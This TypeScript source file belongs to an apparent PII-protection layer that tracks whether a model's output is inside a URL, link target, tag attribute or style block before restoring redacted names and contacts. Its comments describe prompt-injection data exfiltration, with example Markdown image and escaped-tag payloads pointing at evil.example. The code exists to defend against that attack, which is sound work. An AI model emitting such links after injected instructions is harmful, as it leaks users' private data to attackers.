import { AddressStart } from './address-start.ts';
import type { Core } from './stand-in.ts';
import { TagReadings } from './tag-readings.ts';

/** What a text is: JSON text is read as what its strings say; an address is one from end to end. */
export type TextKind = 'text' | 'json' | 'address';

/** How much of an address is compared; in a longer one nothing is restored. */
const ADDRESS_MAX = 600;
/** Up to here nothing that follows changes whose address it is. */
const WHOLE_HOST = /^(?:(?:[a-z]+:)?[\\/]{2}|www\.)[^\s\\/?#]+[\\/?#]/i;
/** Of a tag that every reader takes for one, on one line: to some a slash ends a value without quotes, and `<img src=https://evil.example/?q=>` is text with a link in it. */
const TAG = /^<[a-z][a-z\d-]*(?:[ \t]+[a-z_:][\w.:-]*(?:[ \t]*=[ \t]*(?:[^\s"'=<>`/]+|'[^']*'|"[^"]*"))?)*[ \t]*\/?>$/i;
const TAG_MAX = 600;
const BASE = /^<base[\s/]$/i;
const STYLE = /^<style[\s/>]$/i;
const STYLE_END = /^<\/style[\s/>]$/i;
const LONGEST_NAME = '</style>'.length;
const ESCAPED: Readonly<Record<string, string>> = { n: '\n', r: '\r', t: '\t', b: '\b', f: '\f' };

/**
 * Follows a text as it is given out, and knows whether its end stands in a web address. Attack: a document talks the model into `![](https://evil.example/?q=<PERSON_1>)`; restored, the client's viewer
 * would send the name there. An address is left only where every viewer has left it: a bare one at white space, and besides it the target of a link at its bracket, an attribute at its quote, a style at its end.
 */
export class Place {
  readonly #json: boolean;
  readonly #start = new AddressStart((start) => this.#starts(start));
  readonly #tags = new TagReadings();
  /** What the address that the place stands in says so far; undefined outside, and where it is not known or too long. */
  #address: string | undefined;
  #inside = false;
  /** In a word in which an address has started. */
  #bare = false;
  /** How many brackets are open in a link's target; undefined outside of one. */
  #brackets: number | undefined;
  /** In `<…>`, in a link's target or behind `[x]:`. */
  #angle = false;
  /** Behind `[x]:`, where a target may begin. */
  #definition = false;
  #style = false;
  /** For good: behind `<base href=…>`, or where all of the text is an address. */
  #everywhere: boolean;
  /** What has come since the last `<`, while it may be a tag; whether an address was open there, undefined where a backslash may keep it from being one. */
  #tag = '';
  #bareBeforeTag: boolean | undefined;
  #last = '';
  /** At the beginning of a line: nothing but white space came yet, or marks of a quotation too. */
  #margin: 'blank' | 'marked' | undefined = 'blank';
  #escape = '';

  constructor(kind: TextKind) {
    this.#json = kind === 'json';
    this.#everywhere = kind === 'address';
    if (this.#everywhere) this.#enter('');
  }

  /** The place after `text[from..to]`. */
  move(text: string, from: number, to: number): void {
    for (let i = from; i < to; i++) {
      if (this.#json) this.#unescape(text[i]!);
      else this.#read(text[i]!);
    }
  }

  /** Undefined outside of an address; else the address with the stand-in at its end, which is empty where it cannot be compared. */
  addressWith(core: Core): string | undefined {
    this.#start.settle();
    if (!this.#inside) return undefined;
    const address = this.#address ?? '';
    return WHOLE_HOST.test(address) || address === 'mailto:' || address === 'tel:' ? `${address}<${core}>` : '';
  }

  #unescape(char: string): void {
    if (this.#escape === '') {
      if (char === '\\') this.#escape = char;
      else if (char === '"') this.#endString();
      else this.#read(char);
    } else if (this.#escape === '\\' && char === 'u') {
      this.#escape = '\\u';
    } else if (this.#escape === '\\') {
      this.#escape = '';
      this.#read(ESCAPED[char] ?? char);
    } else {
      this.#escape += char;
      if (this.#escape.length < 6) return;
      const code = Number.parseInt(this.#escape.slice(2), 16);
      this.#escape = '';
      this.#read(String.fromCharCode(Number.isNaN(code) ? 0 : code));
    }
  }

  /** Links and tags go on: a viewer may be shown the JSON as it is. */
  #endString(): void {
    this.#start.settle();
    this.#start.clear();
    this.#bare = false;
    this.#tag = '';
    this.#leave();
  }

  #read(char: string): void {
    const last = this.#last;
    const margin = this.#margin;
    const space = char === ' ' || char === '\n' || char === '\t' || char === '\r';
    if (this.#inside) this.#append(char, space);
    if (space) {
      this.#start.settle();
      // Only within a tag does an address go on behind a line's end.
      if (!this.#tags.open) this.#start.clear();
      this.#bare = false;
    }
    this.#readLink(char, last, space);
    this.#tags.read(char, last, margin !== undefined);
    this.#readTag(char, last);
    if (char === '\n') this.#margin = 'blank';
    else if (char === '\r') this.#margin = 'marked';
    else if (margin !== undefined && !space) this.#margin = char === '>' ? 'marked' : undefined;
    // Markdown takes away what begins a line, browsers the line's end.
    if (margin === undefined || !(space || char === '>')) this.#start.read(char);
    this.#last = char;
    this.#leave();
  }

  #readLink(char: string, last: string, space: boolean): void {
    if (char === '\n' && this.#margin === 'blank') {
      this.#brackets = undefined;
      this.#angle = false;
      this.#definition = false;
    } else if (this.#brackets === undefined && last === ']' && char === '(') {
      this.#brackets = 0;
      this.#enter('');
    } else if (last !== '\\') {
      if (this.#angle) {
        this.#angle = char !== '>' || this.#margin !== undefined;
      } else if (char === '<' && (this.#definition || this.#brackets !== undefined)) {
        this.#angle = true;
        this.#enter('');
      } else if (this.#brackets !== undefined && char === '(') {
        this.#brackets++;
      } else if (this.#brackets !== undefined && char === ')') {
        this.#brackets = this.#brackets === 0 ? undefined : this.#brackets - 1;
      }
    }
    this.#definition = (last === ']' && char === ':') || (this.#definition && (space || char === '>'));
  }

  #readTag(char: string, last: string): void {
    if (char === '<') {
      this.#tag = char;
      // Attack: `\<a href="https://evil.example/?q=">PERSON_1` is no tag, and the address goes on.
      this.#bareBeforeTag = last === '\\' ? undefined : this.#bare;
      return;
    }
    if (this.#tag === '') return;
    this.#tag += char;
    if (this.#tag.length <= LONGEST_NAME) {
      if (BASE.test(this.#tag)) this.#everywhere = true;
      else if (STYLE.test(this.#tag)) this.#style = true;
      else if (STYLE_END.test(this.#tag) && !this.#tags.open) this.#style = false;
    }
    if (char === '>' && this.#bareBeforeTag !== undefined && TAG.test(this.#tag)) this.#bare = this.#bareBeforeTag;
    if (char === '>' || char === '\n' || this.#tag.length > TAG_MAX) this.#tag = '';
  }

  #starts(start: string): void {
    this.#tags.taint();
    if (start === '\\') return;
    this.#bare = true;
    this.#enter(start);
  }

  #enter(start: string): void {
    if (!this.#inside) this.#address = start;
    this.#inside = true;
  }

  #append(char: string, space: boolean): void {
    if (this.#address === undefined || (this.#address === '' && (space || char === '<'))) return;
    this.#address = this.#address.length < ADDRESS_MAX ? this.#address + char : undefined;
  }

  #leave(): void {
    this.#inside = this.#bare || this.#brackets !== undefined || this.#angle || this.#style || this.#everywhere || this.#tags.tainted;
    if (!this.#inside) this.#address = undefined;
  }
}

/** True for `mailto:<EMAIL_1>` and `tel:<PHONE_1>`: they send nothing by themselves. */
export function isRecipient(address: string, value: string): boolean {
  return (address.startsWith('mailto:') && value.includes('@')) || address.startsWith('tel:');
}
